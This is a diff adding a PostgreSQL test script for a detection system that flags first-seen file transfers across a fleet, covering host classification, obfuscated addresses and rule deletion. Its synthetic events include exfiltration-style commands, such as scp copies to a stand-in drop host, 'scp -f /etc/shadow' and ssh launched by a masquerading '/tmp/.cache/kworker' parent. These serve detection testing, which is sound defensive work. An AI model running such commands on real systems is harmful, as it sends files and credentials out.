@@ -1,0 +1,77 @@
+-- What each space of the shipped rules takes for new, and what not; what is inside and outside; what goes with a rule.
+\set ON_ERROR_ROLLBACK on
+BEGIN;
+SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
+SET LOCAL timezone = 'UTC';
+SET LOCAL datestyle = 'ISO';
+\set rule '''first-seen-file-transfer'''
+CREATE FUNCTION pg_temp.launch(at timestamptz, host text, command text, parent text DEFAULT '/usr/sbin/cron', executable text DEFAULT NULL, ip inet DEFAULT NULL, merged boolean DEFAULT false)
+RETURNS void LANGUAGE sql AS $$
+	INSERT INTO transfer_detect.events (timestamp, agent_id, host_name, host_os_type, host_ip, event_type, event_action, process_name,
+		process_executable, process_args, process_command_line, process_parent_executable)
+	VALUES (at, 'agent of ' || host, host, 'linux', ARRAY[ip, '127.0.0.1', 'fe80::1'], CASE WHEN merged THEN '{start,end}'::text[] ELSE '{start}' END,
+		CASE WHEN merged THEN '{fork,exec,end}'::text[] ELSE '{exec}' END, split_part(command, ' ', 1),
+		coalesce(executable, '/usr/bin/' || split_part(command, ' ', 1)), string_to_array(command, ' '), command, parent)
+$$;
+-- what a command makes now: the spaces and keys that are new
+CREATE PROCEDURE pg_temp.tries(at timestamptz, host text, VARIADIC commands text[]) LANGUAGE plpgsql AS $$
+DECLARE
+	command text;
+	found record;
+BEGIN
+	FOREACH command IN ARRAY commands LOOP
+		PERFORM pg_temp.launch(at, host, command);
+		PERFORM FROM transfer_detect.backfill('first-seen-file-transfer', at - interval '30 minutes', at + interval '30 minutes');
+		FOR found IN SELECT unnest(reasons) AS reason FROM transfer_detect.alerts WHERE status = 'open' LOOP
+			RAISE NOTICE '%: %', command, found.reason;
+		END LOOP;
+		UPDATE transfer_detect.alerts SET status = 'closed', close_reason = 'benign' WHERE status = 'open';
+	END LOOP;
+END
+$$;
+-- a fleet, of which some hosts have names that look like numbers
+SELECT pg_temp.launch('2026-11-10 03:00Z', h.name, 'rsync -a /srv/ nas-1.corp.example:/in', ip => h.ip)
+FROM (VALUES ('web-1.corp.example', '10.1.0.1'::inet), ('web-2.corp.example', '10.1.0.2'), ('db06.corp.example', '8.8.4.4'), ('cafe.corp.example', '10.1.0.4')) AS h(name, ip);
+SELECT pg_temp.launch('2026-11-10 03:00Z', 'web-1.corp.example', c) FROM unnest('{scp a backup@nas-1.corp.example:,scp a localhost:}'::text[]) AS c;
+SELECT * FROM learn(:rule, '2026-11-10', '2026-11-20');
+SELECT name, addresses, role FROM fleet_hosts ORDER BY name;
+
+-- hosts of ours by their names are nothing new, by their addresses they are
+CALL pg_temp.tries('2026-11-20 03:00Z', 'web-1.corp.example', 'scp a db06:', 'scp a cafe:', 'scp a cafe.corp.example:', 'scp a web-2:', 'scp a localhost:');
+CALL pg_temp.tries('2026-11-20 04:00Z', 'web-1.corp.example', 'scp a 10.9.0.7:', 'scp a 10.9.0.7:', 'scp a 0xa090008:', 'scp a 168361993:', 'scp a [fd00::7]:');
+-- the address of a host of ours is inside, though it is a public one
+SELECT a.address, remote_class(a.address, 'web-1.corp.example') FROM unnest('{8.8.4.4,8.8.8.8,10.1.0.2,localhost,web-1,db06,nobody,nobody.corp.example,nobody.example,corp.example.net,fd00::9,2001:db8::9}'::text[]) AS a(address);
+-- a name without a domain that the fleet does not know: ssh_config may make it anything, so it is new for the role, once
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a jump:', 'scp a jump:');
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a jump:');
+-- outside, for each host
+CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
+CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
+-- servers, both ways of sending
+CALL pg_temp.tries('2026-11-20 07:00Z', 'db06.corp.example', 'scp -f /etc/shadow', 'scp -t /srv', 'rsync --daemon', 'vsftpd /etc/vsftpd.conf', 'rsync --server --sender -logDtpr . /srv/');
+-- arguments in their order, also where the line says less: the remote host is the last
+SELECT (SELECT esql FROM esql('FROM logs-endpoint.events.process-* | WHERE process.command_line == "scp a u@drop.example:" | KEEP transfer.remote_host, transfer.local_paths | LIMIT 1'));
+
+-- ssh that carries a transfer for a parent that is none of the utilities: a renamed program
+SELECT pg_temp.launch('2026-11-10 03:00Z', 'web-' || h || '.corp.example', 'ssh -x -l u nas-1.corp.example scp -t /in', '/usr/bin/scp') FROM generate_series(1, 2) AS h;
+SELECT * FROM learn('first-seen-transfer-by-ssh', '2026-11-10', '2026-11-20');
+SELECT pg_temp.launch('2026-11-20 03:01Z', 'web-1.corp.example', 'ssh -x -oForwardAgent=no -l u 203.0.113.9 scp -t /in', '/usr/bin/scp'),
+	pg_temp.launch('2026-11-20 03:02Z', 'web-1.corp.example', 'ssh -x -oForwardAgent=no -l u -s -- 203.0.113.9 sftp', '/tmp/.cache/kworker'),
+	pg_temp.launch('2026-11-20 03:03Z', 'web-2.corp.example', 'ssh -l u 203.0.113.9 rsync --server -logDtpre.iLsfxCIvu . /in', '/usr/local/bin/updater', merged => true),
+	pg_temp.launch('2026-11-20 03:04Z', 'web-2.corp.example', 'ssh u@203.0.113.9 uptime', '/tmp/.cache/kworker');
+SELECT alerts_created FROM backfill('first-seen-transfer-by-ssh', '2026-11-20 03:00Z', '2026-11-20 04:00Z');
+SELECT host_names, unnest(reasons) AS reason FROM alerts WHERE rule_id = 'first-seen-transfer-by-ssh' ORDER BY id;
+
+-- what goes with a rule that is deleted
+INSERT INTO rules (rule_id, name, query) VALUES ('mine', 'Mine', 'FROM logs-endpoint.events.process-* | WHERE transfer.utility == "scp" | KEEP @timestamp, host.name, process.executable');
+INSERT INTO habit_spaces (rule_id, space, expressions, scope, reason) VALUES ('mine', 'program', '{process.executable}', 'fleet', 'new: {key}');
+SELECT habits > 0 AS learned FROM learn('mine', '2026-11-10', '2026-11-21');
+DELETE FROM rules WHERE rule_id = 'mine';
+SELECT (SELECT count(*) FROM habit_spaces WHERE rule_id = 'mine'), (SELECT count(*) FROM habits WHERE rule_id = 'mine');
+-- an edit of a shipped rule takes its place, and deletes nothing
+SELECT count(*) AS spaces FROM habit_spaces WHERE rule_id = :rule \gset
+SELECT count(*) AS habits FROM habits WHERE rule_id = :rule \gset
+UPDATE rules SET name = 'Another' WHERE rule_id = :rule;
+SELECT count(*) = :spaces AS spaces_stay FROM habit_spaces WHERE rule_id = :rule;
+SELECT count(*) = :habits AS habits_stay FROM habits WHERE rule_id = :rule;
+ROLLBACK;
